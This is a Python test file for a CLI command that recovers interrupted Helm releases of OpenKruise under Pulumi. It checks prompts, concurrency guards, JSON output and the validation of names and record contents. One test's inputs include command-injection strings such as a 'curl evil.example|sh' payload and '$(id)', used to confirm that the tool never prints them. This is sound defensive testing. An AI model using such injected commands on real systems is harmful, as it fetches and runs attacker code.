"""``pulumi-openkruise recover``: what it says, what it changes, and how it ends."""

import base64
import gzip
import io
import json
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from pulumi_openkruise.cli import recover
from pulumi_openkruise.cli.app import run
from pulumi_openkruise.inventory.helm_records import decode

from tests.support.api_server import ApiServer

SECRETS = "/api/v1/namespaces/kruise-system/secrets"
RECORD = f"{SECRETS}/sh.helm.release.v1.kruise.v2"
CLONE_SETS = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/clonesets.apps.kruise.io"
CERTS = f"{SECRETS}/kruise-webhook-certs"
MADE = f"{datetime.now(timezone.utc) - timedelta(hours=5, minutes=30):%Y-%m-%dT%H:%M:%SZ}"
MANIFEST = "apiVersion: v1\nkind: Secret\nmetadata:\n  name: kruise-webhook-certs\n"
CONFIG_MAPS = "/api/v1/namespaces/kruise-system/configmaps"
DEFINITIONS = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"


RELEASE = {
    "name": "kruise",
    "namespace": "kruise-system",
    "version": 2,
    "manifest": MANIFEST,
    "hooks": [],
}
"""What Helm's record holds, but for its status."""


def pack(release: dict[str, Any]) -> dict[str, str]:
    """Return the data of a record's Secret."""
    packed = base64.b64encode(gzip.compress(json.dumps(release).encode()))
    return {"release": base64.b64encode(packed).decode()}


def secret(status: str, manifest: str = MANIFEST) -> dict[str, Any]:
    return {
        "metadata": {
            "name": "sh.helm.release.v1.kruise.v2",
            "resourceVersion": "41",
            "creationTimestamp": MADE,
            # Helm's own moment is that of the first revision.
            "labels": {
                "owner": "helm",
                "name": "kruise",
                "version": "2",
                "status": status,
                "modifiedAt": "1600000000",
            },
        },
        "type": "helm.sh/release.v1",
        "data": pack({**RELEASE, "info": {"status": status}, "manifest": manifest}),
    }


def holds(server: ApiServer, status: str, manifest: str = MANIFEST) -> None:
    found = secret(status, manifest)
    server.objects(DEFINITIONS, [])
    server.objects(SECRETS, [found])
    server.routes[RECORD] = (200, found)
    server.routes[CERTS] = (200, {"metadata": {"name": "kruise-webhook-certs"}})


def changes(server: ApiServer) -> list[tuple[str, str]]:
    return [(method, path) for method, path, *_ in server.asked if method != "GET"]


def test_an_interrupted_upgrade_is_marked_failed(
    server: ApiServer, kubeconfig: str, capsys: pytest.CaptureFixture[str]
) -> None:
    holds(server, "pending-upgrade")
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 0
    assert changes(server) == [("PUT", RECORD)]
    written = server.asked[-1][-1]
    assert decode(written).status == "failed"
    # The API server refuses it if another client has changed it meanwhile.
    assert written["metadata"]["resourceVersion"] == "41"
    said = capsys.readouterr().out
    assert "│ pending-upgrade │ 5 hours ago │" in said
    assert "Found: revision 2 of kruise-system/kruise is pending-upgrade." in said
    assert "mark revision 2 as failed" in said
    assert "Done. Now:\n  pulumi up\n" in said


def test_an_installation_without_records_is_made_fit_for_a_new_one(
    server: ApiServer, kubeconfig: str, capsys: pytest.CaptureFixture[str]
) -> None:
    server.objects(SECRETS, [])
    server.objects(CONFIG_MAPS, [])
    server.routes[CERTS] = (200, {"metadata": {"name": "kruise-webhook-certs"}})
    owner = {"meta.helm.sh/release-name": "kruise", "meta.helm.sh/release-namespace": "kruise-system"}
    server.routes[CLONE_SETS] = (200, {"metadata": {"annotations": owner}})
    assert run(["recover", "--kubeconfig", kubeconfig, "--dry-run"]) == 1
    assert changes(server) == []
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 0
    assert changes(server) == [("PATCH", CERTS)]
    said = capsys.readouterr().out
    assert "Found: Helm has no record of kruise-system/kruise in Secrets, and the cluster has" in said
    assert "mark Secret kruise-webhook-certs as this release's again" in said
    assert said.endswith("Done. Now:\n  pulumi refresh --yes\n  pulumi up\n")

    server.routes[CERTS] = (200, {"metadata": {"name": "kruise-webhook-certs", "annotations": owner}})
    assert run(["recover", "--kubeconfig", kubeconfig]) == 0
    assert "Next:\n  pulumi refresh --yes\n  pulumi up\n" in capsys.readouterr().out


def test_an_interrupted_installation_is_forgotten_once_helm_can_take_it_over(
    server: ApiServer, kubeconfig: str, capsys: pytest.CaptureFixture[str]
) -> None:
    holds(server, "pending-install")
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 0
    assert changes(server) == [("PATCH", CERTS), ("DELETE", RECORD)]
    marked = server.asked[-2][-1]["metadata"]
    assert marked["annotations"]["meta.helm.sh/release-name"] == "kruise"
    assert server.asked[-1][-1] == {"preconditions": {"resourceVersion": "41"}}
    said = capsys.readouterr().out
    assert "mark Secret kruise-webhook-certs as this release's again" in said
    assert "pulumi refresh --yes --clear-pending-creates\n  pulumi up\n" in said


@pytest.mark.parametrize("options", [["--dry-run"], ["--dry-run", "--yes"], []])
def test_nothing_is_changed_unless_agreed(
    server: ApiServer,
    kubeconfig: str,
    options: list[str],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    holds(server, "pending-upgrade")
    monkeypatch.setattr("click.confirm", lambda *_, **__: False)
    assert run(["recover", "--kubeconfig", kubeconfig, *options]) == 1
    assert changes(server) == []
    assert "Done" not in capsys.readouterr().out


@pytest.mark.parametrize("status", ["pending-upgrade", "pending-install"])
@pytest.mark.parametrize("meanwhile", ["ended", "edited", "another revision", "gone"])
def test_a_release_that_changes_while_the_question_waits_is_left_alone(
    server: ApiServer,
    kubeconfig: str,
    status: str,
    meanwhile: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    holds(server, status)

    def answered(*_arguments: object, **_options: object) -> bool:
        found = secret("deployed" if meanwhile == "ended" else status)
        found["metadata"]["resourceVersion"] = "42" if meanwhile in ("ended", "edited") else "41"
        newer = {"metadata": {"labels": {"version": "3", "status": "deployed"}, "resourceVersion": "43"}}
        items = [found, newer] if meanwhile == "another revision" else [found]
        server.objects(SECRETS, [] if meanwhile == "gone" else items)
        server.routes[RECORD] = (404, {}) if meanwhile == "gone" else (200, found)
        return True

    monkeypatch.setattr("click.confirm", answered)
    assert run(["recover", "--kubeconfig", kubeconfig]) == 2
    assert changes(server) == []
    assert "has changed since it was read: nothing was done" in capsys.readouterr().err


def test_a_change_after_the_last_look_meets_the_api_servers_refusal(
    server: ApiServer, kubeconfig: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    holds(server, "pending-upgrade")
    respond, reads = server.respond, 0

    def changed_between(method: str, target: str, *rest: Any) -> Any:
        nonlocal reads
        answer = respond(method, target, *rest)
        if (method, target) == ("GET", RECORD):
            reads += 1
            if reads > 1:  # the first is before the question
                answer[1]["metadata"]["resourceVersion"] = "42"
        return answer

    monkeypatch.setattr(server, "respond", changed_between)
    run(["recover", "--kubeconfig", kubeconfig, "--yes"])
    # Not the one that was read last, with which the API server would take it.
    assert server.asked[-1][-1]["metadata"]["resourceVersion"] == "41"


def test_what_cannot_be_edited_is_found_before_anything_is_changed(
    server: ApiServer, kubeconfig: str, capsys: pytest.CaptureFixture[str]
) -> None:
    holds(server, "pending-upgrade")
    server.routes[RECORD] = (200, {**secret("pending-upgrade"), "data": {"release": "bm90aGluZw=="}})
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 2
    assert changes(server) == []
    assert "Secret sh.helm.release.v1.kruise.v2: not a Helm release record" in capsys.readouterr().err


def test_json_for_scripts(server: ApiServer, kubeconfig: str, capsys: pytest.CaptureFixture[str]) -> None:
    holds(server, "pending-upgrade")
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes", "--output", "json"]) == 0
    said = json.loads(capsys.readouterr().out)
    assert said == {
        "cluster": server.address,
        "context": "here",
        "release": "kruise-system/kruise",
        "revisions": [{"revision": 2, "status": "pending-upgrade"}],
        "found": "revision 2 of kruise-system/kruise is pending-upgrade",
        "edits": [{"revision": 2, "action": "mark", "status": "failed", "withoutHooks": False}],
        "marked": [],
        "requests": [{"method": "PUT", "path": RECORD}],
        "done": True,
        "then": [
            "pulumi up",
            "if that says unchanged: pulumi config set openkruise:reapply <any new text> && pulumi up",
        ],
    }


def test_json_of_a_record_to_be_deleted_names_no_status(
    server: ApiServer, kubeconfig: str, capsys: pytest.CaptureFixture[str]
) -> None:
    holds(server, "pending-install")
    assert run(["recover", "--kubeconfig", kubeconfig, "--dry-run", "--output", "json"]) == 1
    said = json.loads(capsys.readouterr().out)
    assert said["edits"] == [{"revision": 2, "action": "delete", "status": None, "withoutHooks": False}]
    assert said["done"] is False


def test_a_healthy_release_needs_nothing(
    server: ApiServer, kubeconfig: str, capsys: pytest.CaptureFixture[str]
) -> None:
    holds(server, "deployed")
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 0
    assert changes(server) == []
    said = capsys.readouterr().out.splitlines()
    assert said[-1] == "Found: revision 2 of kruise-system/kruise is deployed: nothing to recover."


@pytest.mark.parametrize(
    ("route", "says"),
    [
        ((409, {"message": "the object has been modified"}), "another process is changing this release"),
        ((403, {"message": "secrets is forbidden"}), "secrets is forbidden"),
    ],
)
def test_a_change_that_is_refused(
    server: ApiServer,
    kubeconfig: str,
    route: tuple[int, Any],
    says: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    holds(server, "pending-upgrade")
    respond = server.respond
    monkeypatch.setattr(
        server, "respond", lambda method, *rest: route if method == "PUT" else respond(method, *rest)
    )
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 2
    assert says in capsys.readouterr().err


def test_a_cluster_that_does_not_answer(kubeconfig: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["recover", "--kubeconfig", kubeconfig, "--context", "there"]) == 2
    said = capsys.readouterr().err
    assert "does not answer" in said
    assert "Traceback" not in said


def test_each_step_is_shown_with_its_path_before_the_question(
    server: ApiServer,
    kubeconfig: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    holds(server, "pending-install")
    said: list[str] = []

    def asked(*_: object, **__: object) -> bool:
        said.append(capsys.readouterr().out)
        return False

    monkeypatch.setattr("click.confirm", asked)
    assert run(["recover", "--kubeconfig", kubeconfig]) == 1
    (before,) = said
    assert f"  mark Secret kruise-webhook-certs as this release's again\n    PATCH {CERTS}\n" in before
    assert f"  delete the record of revision 2\n    DELETE {RECORD}\n" in before


@pytest.mark.parametrize("status", ["pending-upgrade", "pending-install", "uninstalled"])
def test_processes_that_may_still_work_on_it_are_warned_of(
    server: ApiServer, kubeconfig: str, status: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Of what was removed and kept its records nothing works any more."""
    holds(server, status)
    assert run(["recover", "--kubeconfig", kubeconfig, "--dry-run"]) == 1
    said = capsys.readouterr().out
    assert ("If a pulumi or helm process still works on it" in said) == (status != "uninstalled")


@pytest.mark.parametrize(("typed", "code"), [("y\n", 0), ("n\n", 1), ("\n", 1), ("", 1)])
def test_the_question_is_asked_beside_json_and_no_answer_is_no(
    server: ApiServer,
    kubeconfig: str,
    typed: str,
    code: int,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Standard output is JSON alone; the steps and the question are on standard error."""
    holds(server, "pending-upgrade")
    monkeypatch.setattr("sys.stdin", io.StringIO(typed))
    assert run(["recover", "--kubeconfig", kubeconfig, "-o", "json"]) == code
    captured = capsys.readouterr()
    data = json.loads(captured.out)
    assert data["done"] is (code == 0)
    assert data["requests"] == [{"method": "PUT", "path": RECORD}]
    assert captured.err.startswith(f"  mark revision 2 as failed\n    PUT {RECORD}\nDo it? [y/N]")
    monkeypatch.setattr("sys.stdin", io.StringIO(typed))
    assert run(["recover", "--kubeconfig", kubeconfig]) == code
    captured = capsys.readouterr()
    assert f"PUT {RECORD}" in captured.out  # where it has said the steps itself
    assert captured.err.startswith("Do it? [y/N]")


@pytest.mark.parametrize("option", ["--release-name", "--release-namespace"])
@pytest.mark.parametrize("name", ["../..", "a/b", "A", "", ".", "a%2fb", "a?b", "x" * 64, "a b", "a\n"])
def test_only_names_of_kubernetes(
    server: ApiServer, kubeconfig: str, option: str, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["recover", "--kubeconfig", kubeconfig, option, name, "--yes"]) == 2
    assert server.asked == []
    assert "as Kubernetes names things" in capsys.readouterr().err


NOT_UNDERSTOOD = [
    "what",
    "apiVersion: v1\nkind: Pod\nmetadata: {name: etcd-0, namespace: kube-system}\n",
    "a: [\n",
]


@pytest.mark.parametrize(
    ("manifest", "status"),
    [
        # Not the other status: an installation that was killed before it had rendered anything has none.
        ("", "uninstalling"),
        *(
            (manifest, status)
            for manifest in NOT_UNDERSTOOD
            for status in ("uninstalling", "pending-install")
        ),
    ],
)
def test_nothing_is_changed_where_the_manifest_was_not_understood(
    server: ApiServer, kubeconfig: str, manifest: str, status: str, capsys: pytest.CaptureFixture[str]
) -> None:
    holds(server, status, manifest)
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 2
    assert changes(server) == []
    assert "the release's manifest" in capsys.readouterr().err


@pytest.mark.parametrize("going", [True, False])
def test_records_stay_while_a_definition_of_the_release_is_there(
    server: ApiServer, kubeconfig: str, going: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    holds(server, "uninstalling")
    server.routes.pop(CERTS)
    marks = {"meta.helm.sh/release-name": "kruise", "meta.helm.sh/release-namespace": "kruise-system"}
    crd: dict[str, Any] = {"name": "clonesets.apps.kruise.io", "annotations": marks}
    if going:
        crd["deletionTimestamp"] = MADE
    server.named(DEFINITIONS, [{"metadata": crd}])
    run(["recover", "--kubeconfig", kubeconfig, "--yes"])
    assert ("DELETE", RECORD) not in changes(server)
    said = capsys.readouterr().out
    assert ("is being deleted: CustomResourceDefinition clonesets" in said) == going

    server.objects(DEFINITIONS, [])
    server.routes.pop(CLONE_SETS)
    server.asked.clear()
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 0
    assert changes(server) == [("DELETE", RECORD)], going


def test_a_secret_with_helms_labels_that_is_no_record_hides_nothing(
    server: ApiServer, kubeconfig: str, capsys: pytest.CaptureFixture[str]
) -> None:
    stuck = secret("pending-upgrade")
    labels = {"owner": "helm", "name": "kruise", "version": "9", "status": "deployed"}
    planted = {"metadata": {"name": "planted", "labels": labels}, "type": "Opaque"}
    server.objects(SECRETS, [stuck, planted])
    server.routes[RECORD] = (200, stuck)
    assert run(["recover", "--kubeconfig", kubeconfig, "--dry-run"]) == 1
    assert "revision 2 of kruise-system/kruise is pending-upgrade" in capsys.readouterr().out


CHANGED = ["pending-upgrade", "pending-rollback", "pending-install", "uninstalling", "uninstalled"]
"""Every status of which a plan changes a record."""


@pytest.mark.parametrize("status", CHANGED)
@pytest.mark.parametrize(
    ("field", "value", "said"),
    [
        ("info", {"status": "deployed"}, "the status is {}, by content deployed"),
        ("name", "other", "the release is kruise-system/kruise, by content kruise-system/other"),
        ("namespace", "shop", "the release is kruise-system/kruise, by content shop/kruise"),
        ("version", 3, "the revision is 2, by content 3"),
    ],
)
def test_a_record_whose_content_is_not_what_its_labels_say_is_left_alone(
    server: ApiServer,
    kubeconfig: str,
    status: str,
    field: str,
    value: Any,
    said: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A label is easily written by hand, and Helm goes by the content where it uses a record."""
    holds(server, status)
    server.routes[RECORD] = (
        200,
        {**secret(status), "data": pack({**RELEASE, "info": {"status": status}, field: value})},
    )
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 2
    assert changes(server) == []
    assert said.format(status) in capsys.readouterr().err


@pytest.mark.parametrize("status", CHANGED)
def test_a_record_that_cannot_be_decoded_is_left_alone(
    server: ApiServer, kubeconfig: str, status: str
) -> None:
    holds(server, status)
    server.routes[RECORD] = (200, {**secret(status), "data": {"release": "Z2FyYmFnZQ=="}})
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 2
    assert changes(server) == []


@pytest.mark.parametrize(
    "namespace", ["kube-system", "default", "x/../../kube-system", "a?x=", "a.b", "A", "$(id)"]
)
@pytest.mark.parametrize("status", ["pending-install", "uninstalling"])
def test_the_values_of_a_record_lead_into_no_namespace_that_cannot_be_openkruises(
    server: ApiServer, kubeconfig: str, status: str, namespace: str
) -> None:
    metadata = json.dumps({"name": "coredns", "namespace": namespace})
    manifest = f"apiVersion: v1\nkind: ServiceAccount\nmetadata: {metadata}\n"
    holds(server, status)
    values = {"config": {"installation": {"namespace": namespace}}, "manifest": manifest}
    content = {**RELEASE, "info": {"status": status}, **values}
    server.routes[RECORD] = (200, {**secret(status), "data": pack(content)})
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 2
    assert changes(server) == []
    assert not any("coredns" in path for _method, path, *_ in server.asked)


@pytest.mark.parametrize("labels", [{}, {"control-plane": "other"}, {"control-plane": "openkruise"}])
def test_objects_are_marked_only_where_openkruise_can_be(
    server: ApiServer, kubeconfig: str, labels: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    path = "/api/v1/namespaces/shop/serviceaccounts/shop"
    holds(server, "pending-install")
    server.routes["/api/v1/namespaces/shop"] = (200, {"metadata": {"name": "shop", "labels": labels}})
    server.routes[path] = (200, {"metadata": {"name": "shop"}})
    manifest = "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: shop, namespace: shop}\n"
    values = {"config": {"installation": {"namespace": "shop"}}, "manifest": manifest}
    content = {**RELEASE, "info": {"status": "pending-install"}, **values}
    server.routes[RECORD] = (200, {**secret("pending-install"), "data": pack(content)})
    labelled = labels.get("control-plane") == "openkruise"
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == (0 if labelled else 2)
    assert changes(server) == ([("PATCH", path), ("DELETE", RECORD)] if labelled else [])
    assert ("kubectl label namespace shop control-plane=openkruise" in capsys.readouterr().err) != labelled


@pytest.mark.parametrize("name", ["kruise; curl evil.example|sh #", "$(id)", "-n", "a b", "`id`", "KRUISE"])
@pytest.mark.parametrize("key", ["name", "namespace"])
def test_no_command_to_copy_has_what_cannot_be_a_name(
    server: ApiServer, kubeconfig: str, name: str, key: str, capsys: pytest.CaptureFixture[str]
) -> None:
    server.objects(SECRETS, [])
    marks = {f"meta.helm.sh/release-{one}": "other" for one in ("name", "namespace")}
    annotations = {**marks, f"meta.helm.sh/release-{key}": name}
    server.routes[CLONE_SETS] = (200, {"metadata": {"annotations": annotations}})
    run(["recover", "--kubeconfig", kubeconfig, "--dry-run"])
    said = capsys.readouterr()
    assert name not in said.out + said.err


@pytest.mark.parametrize("status", ["pending-upgrade", "uninstalling", "pending-install"])
def test_a_secret_of_another_type_in_a_records_place_is_left_alone(
    server: ApiServer, kubeconfig: str, status: str, capsys: pytest.CaptureFixture[str]
) -> None:
    holds(server, status)
    server.routes[RECORD] = (200, {**secret(status), "type": "Opaque"})
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 2
    assert changes(server) == []
    assert "is not of type helm.sh/release.v1" in capsys.readouterr().err


@pytest.mark.parametrize("allowed", [True, False])
def test_records_in_config_maps_are_named_and_left_alone(
    server: ApiServer, kubeconfig: str, allowed: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    server.objects(SECRETS, [])
    server.objects(CONFIG_MAPS, [{"metadata": {"name": "sh.helm.release.v1.kruise.v1"}}])
    if not allowed:
        server.routes[CONFIG_MAPS] = (403, {"message": "forbidden"})
    marks = {"meta.helm.sh/release-name": "kruise", "meta.helm.sh/release-namespace": "kruise-system"}
    server.routes[CLONE_SETS] = (200, {"metadata": {"annotations": marks}})
    server.routes[CERTS] = (200, {"metadata": {"name": "kruise-webhook-certs"}})
    run(["recover", "--kubeconfig", kubeconfig, "--dry-run"])
    said = capsys.readouterr().out
    assert ("HELM_DRIVER=configmap" in said) == allowed
    assert ("HELM_DRIVER=sql" in said) != allowed


def test_what_is_said_in_full(server: ApiServer, kubeconfig: str, capsys: pytest.CaptureFixture[str]) -> None:
    holds(server, "pending-upgrade")
    assert run(["recover", "--kubeconfig", kubeconfig, "--dry-run"]) == 1
    said = capsys.readouterr().out.splitlines()
    assert said[0] == f"Cluster {server.address}, context here"
    table = [line for line in said if "│" in line]
    assert [cell.strip() for cell in table[0].strip("│").split("│")] == ["revision", "status", "since"]
    assert [cell.strip() for cell in table[1].strip("│").split("│")] == [
        "2",
        "pending-upgrade",
        "5 hours ago",
    ]
    assert said[said.index("Found: revision 2 of kruise-system/kruise is pending-upgrade.") + 1 :] == [
        "If a pulumi or helm process still works on it (another terminal, CI, a provider that",
        "outlived its pulumi), let it end or end it first.",
        "To do:",
        "  mark revision 2 as failed",
        f"    PUT {RECORD}",
        "so that the next upgrade begins where the last good revision ended.",
    ]


@pytest.mark.parametrize(
    ("seconds", "words"),
    [
        (-10, "0 seconds ago"),
        (0, "0 seconds ago"),
        (119, "119 seconds ago"),
        (120, "2 minutes ago"),
        (7199, "119 minutes ago"),
        (7200, "2 hours ago"),
        (2 * 86400 - 1, "47 hours ago"),
        (2 * 86400, "2 days ago"),
        (9 * 86400 + 5, "9 days ago"),
    ],
)
def test_an_age_is_said_in_the_largest_unit_of_which_there_are_two(
    seconds: int, words: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    moment = datetime(2026, 3, 1, 12, tzinfo=timezone.utc)

    class Clock(datetime):
        @classmethod
        def now(cls, tz: Any = None) -> Any:
            assert tz is timezone.utc
            return moment + timedelta(seconds=seconds)

    monkeypatch.setattr(recover, "datetime", Clock)
    assert recover._describe_age(moment) == words


def test_an_unknown_age_is_said() -> None:
    assert recover._describe_age(None) == "unknown"


@pytest.mark.parametrize(("option", "longest"), [("--release-name", 53), ("--release-namespace", 63)])
def test_the_longest_name_that_helm_and_kubernetes_take(
    server: ApiServer,
    kubeconfig: str,
    option: str,
    longest: int,
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert run(["recover", "--kubeconfig", kubeconfig, option, "x" * (longest + 1)]) == 2
    assert server.asked == []
    assert f"Invalid value for '{option}'" in capsys.readouterr().err
    namespace = "x" * longest if option == "--release-namespace" else "kruise-system"
    server.objects(f"/api/v1/namespaces/{namespace}/secrets", [])
    assert run(["recover", "--kubeconfig", kubeconfig, option, "x" * longest]) == 0
    assert "x" * longest in capsys.readouterr().out


def test_nothing_is_shown_of_a_release_that_is_not_there(
    server: ApiServer, kubeconfig: str, capsys: pytest.CaptureFixture[str]
) -> None:
    server.objects(SECRETS, [])
    assert run(["recover", "--kubeconfig", kubeconfig]) == 0
    assert capsys.readouterr().out.splitlines() == [
        f"Cluster {server.address}, context here",
        "Found: there is no release kruise-system/kruise: nothing to recover.",
        "Next:",
        "  if `pulumi destroy` finds it missing: pulumi refresh --yes && pulumi destroy --run-program",
    ]


def test_only_what_was_announced_is_changed(
    server: ApiServer, kubeconfig: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """A release that was in force before goes on from a failed revision: none of its objects is marked."""
    holds(server, "pending-install")
    before = secret("superseded")
    before["metadata"]["labels"]["version"] = "1"
    server.objects(SECRETS, [before, secret("pending-install")])
    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 0
    said = capsys.readouterr().out
    assert "mark revision 2 as failed" in said
    assert "mark Secret" not in said
    assert changes(server) == [("PUT", RECORD)]
